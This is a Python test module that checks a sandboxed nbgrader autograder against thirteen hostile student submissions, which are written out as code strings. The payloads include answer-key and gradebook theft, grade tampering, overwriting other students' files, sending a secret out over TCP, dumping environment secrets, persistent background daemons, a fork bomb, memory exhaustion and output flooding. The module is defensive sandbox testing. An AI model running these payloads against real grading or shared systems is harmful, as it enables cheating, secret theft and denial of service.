"""Hostile submissions through the real, sandboxed ``nbgrader autograde`` (issue 10).

One throw-away course with the first assignment released. Every attacker
submits the correct answers plus attack code in the first answer cell (built
from the released exercise, so the attacks survive a redesign of the
assignments). One honest participant, ``zz-korban``, is graded after the
attackers. Each test asserts the outcome of one attack: contained (the
attacker gets exactly the honest score and nobody else is touched), or
flagged and not scored.

Markdown/rich-output payloads (``m01``, ``m02``) are checked in the feedback
HTML and in the formgrader's submission view with a real browser, see
``test_sanitize_browser.py``; both modules share this module's course through
:func:`attack_run`.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import attack_support as at
import grading_support as gs
import pytest

pytestmark = [pytest.mark.slow, pytest.mark.timeout(3000), pytest.mark.skipif(
    shutil.which("bwrap") is None and os.environ.get("CI") != "true",
    reason="bubblewrap (bwrap) tidak terpasang: tools/install-system-deps.sh")]

CELL_TIMEOUT = 10   # seconds per cell in this run (config: 30)
WALL_SECONDS = 150  # seconds per sandboxed kernel in this run (config: 300)
VICTIM = "zz-korban"
SECRET_ENV = {"JUPYTERHUB_API_TOKEN": "rahasia-token-hub-123",
              "GEHEIM_KUNCI": "rahasia-lingkungan-456"}
MARKER = "kemitraan-serangan-" + uuid.uuid4().hex[:8]


def _attacks(course: Path, name: str, port: int) -> dict[str, str]:
    """student id -> attack code (each fills the dict ``hasil``)."""
    root = str(course)
    victim_sub = str(course / "submitted" / VICTIM / name / f"{name}.ipynb")
    victim_fb = str(course / "feedback" / VICTIM / name)
    return {
        # 1. read the answer keys: solutions/, source/, the graded notebook itself
        "a01-baca-kunci": f"""
            import os, sys
            dapat = []
            lewati = {{'/proc', '/sys', '/dev', '/usr', sys.prefix, sys.base_prefix}}
            for top, dirs, files in os.walk('/'):
                dirs[:] = [d for d in dirs if os.path.join(top, d) not in lewati]
                for f in files:
                    path = os.path.join(top, f)
                    if f.endswith('.ipynb') or f == 'gradebook.db':
                        try:
                            dapat.append((path, open(path, 'rb').read(200).hex()))
                        except OSError:
                            dapat.append((path, 'tidak terbaca'))
            for f in [{root!r} + '/solutions/{name}/{name}.ipynb',
                      '../../../solutions/{name}/{name}.ipynb', '{name}.ipynb']:
                if os.path.exists(f):
                    dapat.append((f, 'ada'))
            hasil['dapat'] = dapat
            hasil['ada_kursus'] = os.path.exists({root!r})
            hasil['isi_cwd'] = sorted(os.listdir('.'))
        """,
        # 2. read the gradebook
        "a02-baca-buku-nilai": f"""
            import os
            hasil['ada'] = os.path.exists({root!r} + '/gradebook.db')
            try:
                hasil['isi'] = open({root!r} + '/gradebook.db', 'rb').read(100).hex()
            except OSError as e:
                hasil['galat'] = str(e)
        """,
        # 3. write the gradebook (own score up, the victim's down)
        "a03-tulis-buku-nilai": f"""
            import sqlite3
            try:
                db = sqlite3.connect({root!r} + '/gradebook.db')
                db.execute('UPDATE grade SET auto_score = 99')
                db.commit()
                hasil['tulis'] = 'berhasil'
            except Exception as e:
                hasil['galat'] = str(e)
        """,
        # 4. overwrite another participant's submission (and graded copy)
        "a04-timpa-kiriman": f"""
            import os
            for f in [{victim_sub!r},
                      {root!r} + '/autograded/{VICTIM}/{name}/{name}.ipynb']:
                try:
                    os.makedirs(os.path.dirname(f), exist_ok=True)
                    open(f, 'w').write('{{"cells": []}}')
                    hasil[f] = 'ditimpa'
                except OSError as e:
                    hasil[f] = str(e)
        """,
        # 5. drop files into another participant's feedback folder
        "a05-isi-umpan-balik": f"""
            import os
            try:
                os.makedirs({victim_fb!r}, exist_ok=True)
                open({victim_fb!r} + '/catatan.html', 'w').write('<b>disusupi</b>')
                hasil['tulis'] = 'berhasil'
            except OSError as e:
                hasil['galat'] = str(e)
        """,
        # 6. overwrite checks.py on disk (would give the next participant points)
        "a06-timpa-checks": """
            import kemitraan_lib.grading.checks as ck
            hasil['berkas'] = ck.__file__
            try:
                open(ck.__file__, 'a').write('\\nraise SystemExit("disusupi")\\n')
                hasil['tulis'] = 'berhasil'
            except OSError as e:
                hasil['galat'] = str(e)
        """,
        # 7. send the key out over TCP (to a listener of this test on loopback)
        "a07-jaringan": f"""
            import socket
            for host in ['127.0.0.1', '10.0.2.2', '1.1.1.1']:
                try:
                    s = socket.create_connection((host, {port}), timeout=3)
                    s.sendall(b'kunci-bocor')
                    s.close()
                    hasil[host] = 'terkirim'
                except OSError as e:
                    hasil[host] = str(e)
        """,
        # 8. read the grader's secrets from the environment
        "a08-lingkungan": """
            import os
            hasil['env'] = dict(os.environ)
        """,
        # 9. a detached child that outlives grading and writes into the victim's folder
        "a09-proses-latar": f"""
            import subprocess, sys, os
            # setsid() fails (EPERM) in a process that already leads its session: the
            # child must not die of that before grading ends
            kode = ('import os, sys, time\\n'
                    'try:\\n    os.setsid()\\nexcept OSError:\\n    pass\\n'
                    'time.sleep(90)\\nopen(sys.argv[1], "w").write("disusupi")\\n')
            p = subprocess.Popen([sys.executable, '-c', kode, {victim_sub!r}, {MARKER!r}],
                                 start_new_session=True, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL)
            if os.fork() == 0:  # and a double-forked daemon
                if os.fork() == 0:
                    os.setsid()
                    os.execv(sys.executable, [sys.executable, '-c', kode, '/tmp/x',
                                              {MARKER!r}])
                os._exit(0)
            hasil['pid'] = p.pid
        """,
        # 10. memory hog: 3 GiB at once, then in 100 MB steps
        "a10-memori": """
            try:
                x = bytearray(3 * 1024 ** 3)
                hasil['sekaligus'] = len(x)
            except MemoryError:
                hasil['sekaligus'] = 'MemoryError'
            try:
                y = [0] * (400 * 1024 ** 2)  # 3.2 GB of pointers
                hasil['daftar'] = len(y)
            except MemoryError:
                hasil['daftar'] = 'MemoryError'
        """,
        # 11. fork storm (children fork again and sleep)
        "a11-fork": """
            import os, time
            anak = 0
            try:
                for _ in range(5000):
                    pid = os.fork()
                    if pid == 0:
                        try:
                            os.fork(); os.fork()
                        except OSError:
                            pass
                        time.sleep(90)
                        os._exit(0)
                    anak += 1
            except OSError as e:
                hasil['galat'] = str(e)
            hasil['anak'] = anak
        """,
        # 12. endless loop that ignores the interrupt
        "a12-loop-abadi": """
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
        """,
        # 13. 50 MB of output
        "a13-keluaran": """
            for _ in range(500):
                print('x' * 100_000)
            hasil['cetak'] = 50_000_000
        """,
    }


def _run_nbgrader(course: Path, *args: str, env_extra: dict | None = None,
                  timeout: float = 1800) -> subprocess.CompletedProcess:
    env = gs.env()
    env.update(env_extra or {})
    return subprocess.run([str(gs.VENV_BIN / "nbgrader"), *args], cwd=course, env=env,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                          timeout=timeout)


_RUN: dict = {}


def attack_run(tmp_path_factory) -> dict:
    """Build the course, submit every attack, autograde + feedback once per session."""
    if "fout" in _RUN:  # the run itself failed once: do not repeat it for every test
        raise RuntimeError("the attack run failed earlier") from _RUN["fout"]
    if _RUN:
        return _RUN
    try:
        return _attack_run(tmp_path_factory)
    except BaseException as exc:
        _RUN["fout"] = exc
        raise


def _attack_run(tmp_path_factory) -> dict:
    name = gs.assignments()[0]
    course = gs.make_course(tmp_path_factory.mktemp("serangan"), [name])
    res = gs.nbgrader(course, "generate_assignment", name)
    assert res.returncode == 0, res.stdout
    src = gs.read_nb(gs.source_path(course, name))
    rel = gs.read_nb(gs.release_path(course, name))
    listener = at.Listener()
    attacks = _attacks(course, name, listener.port)
    for student, code in attacks.items():
        # the memory hog also ends its cell with an uncaught 3 GiB allocation (flagged)
        after = "_x = bytearray(3 * 1024 ** 3)" if student == "a10-memori" else ""
        gs.submit(course, student, name, at.with_attack(rel, src, at.attack(code), after))
    import sanitize_payloads as payloads

    gs.submit(course, "m01-markdown", name,
              at.with_markdown(rel, src, payloads.markdown(listener.port)))
    gs.submit(course, "m02-keluaran", name,
              at.with_attack(rel, src, payloads.outputs_code(listener.port)))
    import kemitraan_lib.grading.checks as checks

    before = {"checks": at.sha256(Path(checks.__file__)),
              "victim": at.sha256(gs.submit(course, VICTIM, name, gs.fill(rel, src)))}
    try:
        log = _run_nbgrader(course, "autograde", name, f"--Execute.timeout={CELL_TIMEOUT}",
                            f"--SandboxKernelManager.wall_seconds={WALL_SECONDS}",
                            env_extra=SECRET_ENV)
        feedback = _run_nbgrader(course, "generate_feedback", name)
    finally:
        listener.close()
    (course / "autograde.log").write_text(log.stdout, encoding="utf-8")  # for a failed test
    _RUN.update({
        "name": name, "course": course, "source": src, "release": rel, "log": log,
        "feedback": feedback, "before": before, "received": list(listener.received),
        "scores": gs.gradebook_scores(course, name), "checks_file": Path(checks.__file__),
        "left_marker": at.processes_with(MARKER), "left_sandbox": at.sandbox_processes(),
        "auto": gs.points(src)[0], "port": listener.port,
    })
    return _RUN


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return attack_run(tmp_path_factory)


def graded(run, student):
    path = run["course"] / "autograded" / student / run["name"] / f"{run['name']}.ipynb"
    return gs.read_nb(path) if path.exists() else None


def result(run, student) -> dict:
    nb = graded(run, student)
    assert nb is not None, f"{student} tidak dinilai:\n{run['log'].stdout[-3000:]}"
    got = at.result_of(nb)
    assert got is not None, f"{student}: serangan tidak melapor"
    return got


def flags(run, student) -> list[str]:
    nb = graded(run, student)
    return list(nb.metadata.get("kemitraan", {}).get("flags", [])) if nb else []


def assert_honest_score(run, student):
    """Contained: the attacker scores exactly what its honest answers earn."""
    assert run["scores"][student]["code_score"] == pytest.approx(run["auto"]), student


def test_grading_ran_and_the_victim_is_untouched(run):
    assert run["log"].returncode in (0, 1), run["log"].stdout[-3000:]
    assert run["scores"][VICTIM]["code_score"] == pytest.approx(run["auto"])
    victim_file = run["course"] / "submitted" / VICTIM / run["name"] / f"{run['name']}.ipynb"
    assert at.sha256(victim_file) == run["before"]["victim"]
    assert flags(run, VICTIM) == []


def test_read_keys_sees_no_course_file(run):
    got = result(run, "a01-baca-kunci")
    assert got.get("dapat") == [], got
    assert got["ada_kursus"] is False
    assert not any(f.endswith(".ipynb") for f in got["isi_cwd"])
    assert_honest_score(run, "a01-baca-kunci")


def test_read_gradebook_fails(run):
    got = result(run, "a02-baca-buku-nilai")
    assert got["ada"] is False and "isi" not in got, got
    assert_honest_score(run, "a02-baca-buku-nilai")


def test_write_gradebook_fails_and_scores_are_consistent(run):
    got = result(run, "a03-tulis-buku-nilai")
    assert got.get("tulis") != "berhasil", got
    for student, score in run["scores"].items():
        assert score["code_score"] <= run["auto"], student
        assert score["code_score"] >= 0, student
    assert_honest_score(run, "a03-tulis-buku-nilai")


def test_overwrite_other_submission_fails(run):
    """The write lands, if anywhere, in the sandbox's private /tmp: the host is untouched."""
    result(run, "a04-timpa-kiriman")
    victim_file = run["course"] / "submitted" / VICTIM / run["name"] / f"{run['name']}.ipynb"
    assert at.sha256(victim_file) == run["before"]["victim"]
    assert len(graded(run, VICTIM).cells) > 5
    assert run["scores"][VICTIM]["code_score"] == pytest.approx(run["auto"])
    assert_honest_score(run, "a04-timpa-kiriman")


def test_files_dropped_into_other_feedback_folder_do_not_appear(run):
    result(run, "a05-isi-umpan-balik")
    folder = run["course"] / "feedback" / VICTIM / run["name"]
    assert sorted(p.name for p in folder.iterdir()) == [f"{run['name']}.html"]
    assert_honest_score(run, "a05-isi-umpan-balik")


def test_overwriting_checks_py_changes_nothing(run):
    got = result(run, "a06-timpa-checks")
    assert got.get("tulis") != "berhasil", got
    assert at.sha256(run["checks_file"]) == run["before"]["checks"]
    # the participant graded next still gets full marks
    assert run["scores"][VICTIM]["code_score"] == pytest.approx(run["auto"])
    assert_honest_score(run, "a06-timpa-checks")


def test_tcp_connection_out_fails(run):
    got = result(run, "a07-jaringan")
    assert "terkirim" not in got.values(), got
    assert run["received"] == []
    assert_honest_score(run, "a07-jaringan")


def test_grader_secrets_are_not_in_the_kernel_environment(run):
    env = result(run, "a08-lingkungan")["env"]
    for key, value in SECRET_ENV.items():
        assert key not in env and value not in str(env), key
    assert str(run["course"]) not in str(env)
    assert env.get("NBGRADER_EXECUTION") == "autograde"


def test_detached_child_is_gone_and_wrote_nothing(run):
    result(run, "a09-proses-latar")
    assert run["left_marker"] == [], "a process of the submission outlived grading"
    assert run["left_sandbox"] == [], "a sandbox outlived grading"
    victim_file = run["course"] / "submitted" / VICTIM / run["name"] / f"{run['name']}.ipynb"
    assert at.sha256(victim_file) == run["before"]["victim"]
    assert not Path("/tmp/x").exists() or "disusupi" not in Path("/tmp/x").read_text()
    from kemitraan_lib.grading.sandbox import FLAG_LEFTOVER

    assert FLAG_LEFTOVER in flags(run, "a09-proses-latar")
    assert_honest_score(run, "a09-proses-latar")


def _first_answer_points(run) -> float:
    """Points of the tests that read an answer of the first code answer cell."""
    cells = run["source"]["cells"]
    first = next(c for c in cells if c["cell_type"] == "code"
                 and gs.nbg(c).get("solution") and not gs.nbg(c).get("grade"))
    text = "".join(first["source"])
    names = re.findall(r"^(jawaban_\w+)\s*=", text, re.MULTILINE)
    assert names, text
    return sum(float(gs.nbg(c).get("points", 0)) for c in cells
               if c["cell_type"] == "code" and gs.nbg(c).get("grade")
               and not gs.nbg(c).get("solution")
               and any(re.search(rf"\b{n}\b", "".join(c["source"])) for n in names))


def test_memory_hog_is_stopped_and_flagged(run):
    got = result(run, "a10-memori")
    assert got["sekaligus"] == "MemoryError" and got["daftar"] == "MemoryError", got
    assert any("batas memori" in f for f in flags(run, "a10-memori"))
    # The hog's answer cell ends with an uncaught MemoryError: since issue 15 an answer
    # cell that ends in an error is "not run successfully" (trusted verdict), so exactly
    # the answers of that cell earn nothing; every other answer is scored honestly.
    lost = _first_answer_points(run)
    assert lost > 0
    assert run["scores"]["a10-memori"]["code_score"] == pytest.approx(run["auto"] - lost)


def test_fork_storm_is_limited_flagged_and_cleaned_up(run):
    got = result(run, "a11-fork")
    assert got["anak"] < 64, got
    assert "galat" in got
    student_flags = flags(run, "a11-fork")
    assert any("jumlah proses" in f for f in student_flags), student_flags
    assert run["left_sandbox"] == []
    assert_honest_score(run, "a11-fork")


def test_uninterruptible_endless_loop_is_killed_not_scored_others_graded(run):
    """A loop that ignores the interrupt: killed at the second timeout, graded 0."""
    student = "a12-loop-abadi"
    assert graded(run, student) is None  # nbgrader's failure path: nothing graded
    score = run["scores"][student]
    assert not score["code_score"], score
    log = run["log"].stdout
    from kemitraan_lib.grading.sandbox import FLAG_STUCK

    assert FLAG_STUCK in log
    assert len([s for s in run["scores"] if run["scores"][s]["code_score"]]) >= 10


def test_huge_output_is_cut_with_an_indonesian_note_and_flagged(run):
    student = "a13-keluaran"
    assert graded(run, student) is not None, run["log"].stdout[-3000:]
    path = run["course"] / "autograded" / student / run["name"] / f"{run['name']}.ipynb"
    assert path.stat().st_size < 2_500_000
    html = run["course"] / "feedback" / student / run["name"] / f"{run['name']}.html"
    text = html.read_text(encoding="utf-8")
    assert html.stat().st_size < 3_500_000
    assert "keluaran sel ini dipotong" in text
    assert any("dipotong" in f for f in flags(run, student))
    assert_honest_score(run, student)


def test_feedback_generation_succeeded_for_every_graded_attacker(run):
    assert run["feedback"].returncode == 0, run["feedback"].stdout[-3000:]


def test_no_process_of_any_submission_is_left(run):
    assert run["left_sandbox"] == []
    assert at.sandbox_processes() == []


def test_sandbox_missing_stops_grading_with_indonesian_message(tmp_path):
    """Without bwrap on PATH grading stops; with KEMITRAAN_TANPA_SANDBOX=1 it runs."""
    name = gs.assignments()[0]
    course = gs.make_course(tmp_path / "kursus", [name])
    assert gs.nbgrader(course, "generate_assignment", name).returncode == 0
    src = gs.read_nb(gs.source_path(course, name))
    rel = gs.read_nb(gs.release_path(course, name))
    gs.submit(course, "p01", name, gs.fill(rel, src))
    nobwrap = tmp_path / "bin"
    nobwrap.mkdir()
    path = str(gs.VENV_BIN) + os.pathsep + str(nobwrap)
    env = {"PATH": path}
    # python3 for nbgrader's shebang is the venv's; /usr/bin (bwrap) is left out of PATH
    res = _run_nbgrader(course, "autograde", name, env_extra=env)
    assert "bubblewrap" in res.stdout and "tidak dapat dijalankan" in res.stdout, res.stdout
    assert graded({"course": course, "name": name}, "p01") is None
    res = _run_nbgrader(course, "autograde", name, "--force",
                        env_extra={**env, "KEMITRAAN_TANPA_SANDBOX": "1"})
    nb = graded({"course": course, "name": name}, "p01")
    assert nb is not None, res.stdout[-3000:]
    from kemitraan_lib.grading.sandbox import FLAG_UNSANDBOXED

    assert FLAG_UNSANDBOXED in nb.metadata["kemitraan"]["flags"]
    assert gs.gradebook_scores(course, name)["p01"]["code_score"] == pytest.approx(
        gs.points(src)[0])


def test_sandbox_command_never_shows_the_course_folder(tmp_path):
    """The mount plan refuses a folder that contains the course (guard)."""
    from kemitraan_lib.grading.sandbox import SandboxKernelManager, SandboxUnavailable

    km = SandboxKernelManager(extra_ro_paths=[str(tmp_path)])
    (tmp_path / "ipc").mkdir()
    with pytest.raises(SandboxUnavailable, match="memuat folder kursus"):
        km.sandbox_command([sys.executable, "-m", "ipykernel_launcher"], tmp_path, tmp_path,
                           {}, cwd=tmp_path / "autograded" / "p01" / "tugas")
